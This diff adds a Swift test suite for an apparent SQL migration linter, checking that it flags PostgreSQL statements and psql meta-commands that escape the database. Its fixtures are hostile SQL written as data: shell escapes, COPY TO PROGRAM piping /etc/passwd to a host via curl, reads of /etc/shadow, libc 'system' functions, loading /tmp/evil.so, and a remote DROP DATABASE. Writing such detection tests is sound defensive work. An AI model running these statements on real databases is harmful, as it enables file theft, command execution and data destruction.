@@ -1,0 +1,110 @@
+import Testing
+@testable import SchemaJobKit
+
+/// Lint's rules for statements that reach outside the database, and psql meta-commands
+/// wherever psql would read one. Each case is written as a pull request might write it.
+@Suite struct EscapeRulesTests {
+    /// (SQL, the rule it must draw, the line it is on).
+    static let escapes: [(sql: String, rule: String, line: Int)] = [
+        ("SELECT 1; \\! touch /tmp/pwned\n", "psql-meta-command", 1),
+        ("CREATE TABLE IF NOT EXISTS t (id int);\nSELECT 'hello' \\o /tmp/out.txt\n", "psql-meta-command", 2),
+        ("SELECT now() \\g /tmp/out.txt\n", "psql-meta-command", 1),
+        ("SELECT 1 \\g |sh -c 'id > /tmp/x'\n", "psql-meta-command", 1),
+        ("SELECT format('DROP TABLE %I', relname) FROM pg_class \\gexec\n", "psql-meta-command", 1),
+        ("\\set who `whoami`\n", "psql-meta-command", 1),
+        ("\\copy (SELECT 1) TO '/tmp/copied'\n", "psql-meta-command", 1),
+        ("SELECT 5 \\; SELECT 6;\n", "psql-meta-command", 1),
+        ("COPY (SELECT 1) TO PROGRAM 'curl -d @/etc/passwd example.com';\n", "copy-program", 1),
+        ("CREATE TABLE IF NOT EXISTS l (line text);\ncopy l from program 'cat /etc/hostname';\n", "copy-program", 2),
+        ("COPY (SELECT 1) TO '/var/lib/postgresql/x';\n", "copy-server-file", 1),
+        ("COPY l FROM E'/etc/passwd';\n", "copy-server-file", 1),
+        ("COPY l (line) FROM STDIN;\n", "copy-from-stdin", 1),
+        ("SELECT lo_export(lo_from_bytea(0, 'x'), '/tmp/lo');\n", "large-object-file", 1),
+        ("SELECT pg_catalog.lo_import('/etc/passwd');\n", "large-object-file", 1),
+        ("SELECT pg_read_file('/etc/passwd');\n", "server-file-function", 1),
+        ("SELECT * FROM pg_ls_dir('.');\n", "server-file-function", 1),
+        ("SELECT (pg_stat_file('postgresql.conf')).size;\n", "server-file-function", 1),
+        ("SELECT \"pg_read_binary_file\"('/etc/shadow');\n", "server-file-function", 1),
+        ("CREATE EXTENSION IF NOT EXISTS file_fdw;\n", "server-file-function", 1),
+        ("CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os; return 1 $$;\n", "untrusted-language", 1),
+        ("CREATE FUNCTION sh(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C;\n", "untrusted-language", 1),
+        ("DO LANGUAGE plperlu $$ system('id') $$;\n", "untrusted-language", 1),
+        ("CREATE EXTENSION IF NOT EXISTS pltclu;\n", "untrusted-language", 1),
+        ("CREATE TRUSTED LANGUAGE plsh HANDLER h;\n", "untrusted-language", 1),
+        ("LOAD '/tmp/evil.so';\n", "untrusted-language", 1),
+        ("ALTER SYSTEM SET archive_command = 'curl example.com';\n", "alter-system", 1),
+        ("CREATE EXTENSION IF NOT EXISTS dblink;\n", "remote-connection", 1),
+        ("SELECT dblink_exec('host=10.0.0.1 user=postgres', 'DROP DATABASE prod');\n", "remote-connection", 1),
+        ("CREATE SERVER other FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'db');\n", "remote-connection", 1),
+        ("CREATE USER MAPPING FOR CURRENT_USER SERVER other OPTIONS (user 'postgres');\n", "remote-connection", 1),
+        ("SET ROLE postgres;\n", "set-role", 1),
+        ("SET SESSION AUTHORIZATION postgres;\n", "set-role", 1),
+        ("SELECT set_config('role', 'postgres', false);\n", "set-role", 1),
+        ("RESET ALL;\n", "reset-all", 1),
+        ("SET standard_conforming_strings = off;\n", "standard-conforming-strings", 1),
+        // Inside bodies: a DO block, a function's dollar body, a function body in a string,
+        // and the string a DO block hands to EXECUTE.
+        ("DO $$\nBEGIN\n    COPY (SELECT 1) TO PROGRAM 'id';\nEND $$;\n", "copy-program", 3),
+        ("CREATE OR REPLACE FUNCTION leak() RETURNS text LANGUAGE sql AS $$\n  SELECT pg_read_file('/etc/passwd')\n$$;\n", "server-file-function", 2),
+        ("CREATE OR REPLACE FUNCTION leak() RETURNS text LANGUAGE sql AS 'SELECT pg_read_file(''/etc/passwd'')';\n", "server-file-function", 1),
+        ("DO $$\nBEGIN\n  EXECUTE 'COPY (SELECT 1) TO ''/tmp/x''';\nEND $$;\n", "copy-server-file", 3),
+        ("DO $$ BEGIN IF true THEN SET ROLE postgres; END IF; END $$;\n", "set-role", 1),
+    ]
+
+    @Test(arguments: 0..<escapes.count)
+    func eachEscapeIsAnErrorOnItsLine(_ index: Int) {
+        let (sql, rule, line) = Self.escapes[index]
+        let findings = CheckFixtures.lint(sql).filter { $0.rule == rule }
+        #expect(findings.count >= 1, "\(sql.debugDescription): \(CheckFixtures.lint(sql).map(FindingFormat.textLine))")
+        #expect(findings.first?.location.line == line, "\(sql.debugDescription)")
+        #expect(findings.allSatisfy { $0.isError })
+    }
+
+    @Test(arguments: 0..<escapes.count)
+    func runSafetyRefusesWhatLintFinds(_ index: Int) {
+        let (sql, rule, _) = Self.escapes[index]
+        let set = MigrationSet(directory: "database", files: [CheckFixtures.schema("001_test.sql", sql)])
+        #expect(RunSafety.refusals(set).contains { $0.rule == rule }, "\(sql.debugDescription)")
+        #expect(throws: RunRefusal.self) { try RunSafety.requireNone(RunSafety.refusals(set)) }
+    }
+
+    @Test func noAllowCommentSilencesAnEscape() {
+        let findings = CheckFixtures.lint("-- schemajob:allow copy-program, psql-meta-command\nCOPY (SELECT 1) TO PROGRAM 'id'; \\! id\n")
+        #expect(Set(findings.map(\.rule)).isSuperset(of: ["copy-program", "psql-meta-command", "unknown-allow"]), "\(findings.map(FindingFormat.textLine))")
+        #expect(LintRule.all.filter { $0.family == .escape }.allSatisfy { !$0.canBeAllowed })
+    }
+
+    @Test func aMidLineMetaCommandIsReportedAtItsColumn() {
+        let finding = CheckFixtures.lint("SELECT 1;   \\! echo pwned\n").first { $0.rule == "psql-meta-command" }
+        #expect(finding?.location == SourceLocation(path: "database/schema/001_test.sql", line: 1, column: 13))
+        #expect(finding?.message.contains("\\!") == true)
+    }
+
+    /// What looks like an escape but is text: none of it is a finding.
+    @Test func backslashesAndEscapeWordsInsideTextAreNotFindings() {
+        let harmless = """
+            CREATE TABLE IF NOT EXISTS notes (body text, "copy\\path" text);
+            -- a comment with \\! rm -rf / and COPY x TO PROGRAM 'id'
+            /* a block comment \\o /tmp/x /* nested \\g */ still */
+            INSERT INTO notes (body) VALUES ('C:\\temp\\new'), (E'tab\\there \\\\ and \\' quote'), ($$ \\! not a command $$), ($tag$ \\gexec $tag$)
+            ON CONFLICT DO NOTHING;
+            SELECT E'first'
+                '\\' still the string \\! here';
+            COMMENT ON TABLE notes IS 'export with lo_export later';
+            SELECT 'pg_read_file(''/etc/passwd'')' AS text_only;
+
+            """
+        let findings = CheckFixtures.lint(harmless).filter { $0.isError }
+        #expect(findings.isEmpty, "\(findings.map(FindingFormat.textLine))")
+    }
+
+    @Test func anEStringContinuedOnTheNextLineKeepsItsEscapes() {
+        // scan.l: E'a' then a newline then '\'' is one constant whose value is a'.
+        let tokens = SQLLexer.tokens(in: "SELECT E'a'\n  -- note\n  '\\'' AS x;").filter { !$0.isTrivia }
+        #expect(tokens.map(\.kind) == [.word, .string, .word, .word, .punctuation])
+        #expect(tokens[1].isTerminated)
+        #expect(CheckFixtures.lint("SELECT E'a'\n'\\'' AS x;\n").isEmpty)
+        // Without a newline between them they are two constants, as PostgreSQL reads them.
+        #expect(SQLLexer.tokens(in: "SELECT E'a' '\\'' AS x;").filter { $0.kind == .string }.count == 2)
+    }
+}
